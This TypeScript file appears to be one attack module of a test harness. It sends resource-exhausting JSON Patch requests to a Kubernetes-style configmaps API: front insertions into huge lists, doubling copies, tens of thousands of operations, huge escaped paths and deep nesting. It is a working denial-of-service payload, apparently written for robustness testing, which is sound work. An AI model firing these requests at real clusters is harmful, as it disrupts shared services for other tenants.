import type { Attack } from '../attack.ts';

const PATH = '/api/v1/namespaces/tenant/configmaps';
const OPERATIONS = 40_000;

/**
 * Attacks with JSON patches: inserting at the front of a list moves everything behind it; copying doubles the copied
 * part.
 */
export const insertAtFront: Attack = {
  name: 'json patch',
  async run({ tenant }) {
    const finalizers = Array.from({ length: 1_000 }, (_, i) => `example.com/f${i}`);
    await tenant.send('POST', PATH, { body: { metadata: { name: 'patched' }, data: { a: 'x' } } });
    const type = 'application/json-patch+json';
    const send = (operations: object[]) => tenant.send('PATCH', `${PATH}/patched`, { body: operations, type });
    const list = JSON.stringify(Array.from({ length: 1_000_000 }, () => 1));
    const insertions = Array.from({ length: 10_000 }, () => ({ op: 'add', path: '/data/list/0', value: 1 }));
    const body = `[{"op":"add","path":"/data/list","value":${list}},${JSON.stringify(insertions).slice(1)}`;
    await tenant.send('PATCH', `${PATH}/patched`, { body, type });
    await send([
      { op: 'add', path: '/metadata/finalizers', value: finalizers },
      ...Array.from({ length: OPERATIONS }, () => ({ op: 'add', path: '/metadata/finalizers/0', value: 'a.b/c' })),
    ]);
    await send(Array.from({ length: 40 }, (_, i) => ({ op: 'copy', from: '/data', path: `/data/copy${i}` })));
    await send(Array.from({ length: OPERATIONS }, () => ({ op: 'test', path: '/data/a', value: 'x' })));
    await send(Array.from({ length: OPERATIONS }, () => ({ op: 'move', from: '/data/a', path: '/data/a' })));
    await send([{ op: 'test', path: `/${'~0'.repeat(1_400_000)}`, value: 1 }]);
    const deep = { op: 'add', path: `/data${'/a'.repeat(400)}`, value: {} };
    const nested = JSON.parse(`${'{"a":'.repeat(400)}1${'}'.repeat(400)}`);
    await send([{ op: 'add', path: '/data', value: nested }, ...Array.from({ length: 3_000 }, () => deep)]);
    await tenant.send('DELETE', `${PATH}/patched`);
  },
};
